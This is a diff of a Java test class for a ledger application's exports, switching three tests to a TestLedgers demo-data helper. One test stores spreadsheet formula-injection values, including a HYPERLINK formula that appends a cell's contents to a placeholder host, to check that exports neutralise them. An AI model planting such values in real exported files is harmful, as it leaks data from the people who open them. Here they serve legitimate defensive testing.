@@ -4,6 +4,7 @@ import app.latentledger.core.records.Visit;
 import app.latentledger.core.units.UnitSystem;
 import app.latentledger.store.DemoScenario;
 import app.latentledger.store.Ledger;
+import app.latentledger.store.TestLedgers;
 import org.apache.commons.csv.CSVFormat;
 import org.apache.commons.csv.CSVParser;
 import org.apache.commons.csv.CSVRecord;
@@ -31,7 +32,7 @@ class OutputFilesTest {
 
     @Test
     void formulaLeadingNotesAreWrittenAsText() throws Exception {
-        try (Ledger ledger = Ledger.open(dir.resolve("data"))) {
+        try (Ledger ledger = TestLedgers.withDemo(dir.resolve("data"))) {
             Visit v = ledger.visits().find(DemoScenario.VISIT_COMPLAINT).orElseThrow();
             ledger.visits().save(new Visit(v.id(), v.siteId(), v.systemId(), v.startedAt(), "@SUM(A1:A9)", v.purpose(),
                     "=HYPERLINK(\"http://example.invalid/\"&A1,\"click\")"));
@@ -62,7 +63,7 @@ class OutputFilesTest {
     @Test
     void reportsAndExportsAreReadableByTheOwnerOnly() throws Exception {
         Assumptions.assumeTrue(dir.getFileSystem().supportedFileAttributeViews().contains("posix"));
-        try (Ledger ledger = Ledger.open(dir.resolve("data"))) {
+        try (Ledger ledger = TestLedgers.withDemo(dir.resolve("data"))) {
             Path csv = VisitDataExport.write(ledger, DemoScenario.VISIT_COMPLAINT, VisitDataExport.Format.CSV,
                     UnitSystem.IP, dir.resolve("d.csv"));
             Path json = VisitDataExport.write(ledger, DemoScenario.VISIT_COMPLAINT, VisitDataExport.Format.JSON,
@@ -81,7 +82,7 @@ class OutputFilesTest {
         Path stale = Files.writeString(dir.resolve(".d.csv.4194999-123.part"), "half");
         Path mine = Files.writeString(dir.resolve(".d.csv." + ProcessHandle.current().pid() + "-9.part"), "in use");
         Path other = Files.writeString(dir.resolve(".other.csv.4194999-1.part"), "another target");
-        try (Ledger ledger = Ledger.open(dir.resolve("data"))) {
+        try (Ledger ledger = TestLedgers.withDemo(dir.resolve("data"))) {
             VisitDataExport.write(ledger, DemoScenario.VISIT_COMPLAINT, VisitDataExport.Format.CSV, UnitSystem.IP,
                     dir.resolve("d.csv"));
         }
